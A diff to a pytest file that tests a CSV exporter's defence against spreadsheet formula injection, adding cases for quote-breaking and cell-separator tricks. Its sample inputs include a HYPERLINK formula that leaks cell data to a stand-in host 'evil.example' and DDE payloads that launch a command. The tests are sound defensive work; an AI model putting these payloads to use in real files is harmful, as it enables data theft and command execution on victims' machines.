@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import io
+import re
 from dataclasses import replace
 from datetime import UTC, datetime
 
@@ -46,7 +47,6 @@ FORMULAS = [
     '=HYPERLINK("http://evil.example/"&A1;"x")',
     "=cmd|' /C calc'!A0",
     "-2+3+cmd|' /C calc'!A0",
-    '=1+1";=1+1',
 ]
 HARMLESS = [
     "Ada <ada@example.com>",
@@ -105,6 +105,20 @@ def test_a_text_that_a_spreadsheet_would_run_begins_with_an_apostrophe(formula: 
     assert found["sender"] == f"'{formula}"
 
 
+def test_the_well_known_attack_that_ends_its_quotes_runs_in_neither_cell() -> None:
+    (found,) = read(written(row(sender='=1+1";=1+1')))
+
+    assert found["sender"] == "'=1+1\";'=1+1"
+
+
+@pytest.mark.parametrize("between", [";", "; ", "\t", "|", "\n", "\r\n"], ids=ascii)
+def test_a_formula_behind_a_sign_at_which_a_spreadsheet_may_part_cells_is_none(between: str) -> None:
+    (found,) = read(written(row(sender=f"Ada{between}=HYPERLINK(1)")))
+
+    assert found["sender"].startswith("Ada")
+    assert re.split(r"[;\t\r\n|]", found["sender"])[-1].startswith("'")
+
+
 @pytest.mark.parametrize("text", HARMLESS, ids=ascii)
 def test_other_texts_are_as_they_are(text: str) -> None:
     (found,) = read(written(row(sender=text)))
@@ -139,5 +153,6 @@ def test_what_is_written_is_read_back_and_begins_no_formula(text: str) -> None:
     (found,) = read(written(row(sender=text, list_id=text)))
 
     assert found["sender"] == found["list_id"]
-    assert found["sender"] in (text, f"'{text}")
+    assert found["sender"].replace("'", "") == text.replace("'", "")
+    assert found["sender"] in (text, f"'{text}") or re.search(r"[;\t\r\n|]", text)
     assert not inert(text).lstrip().startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))
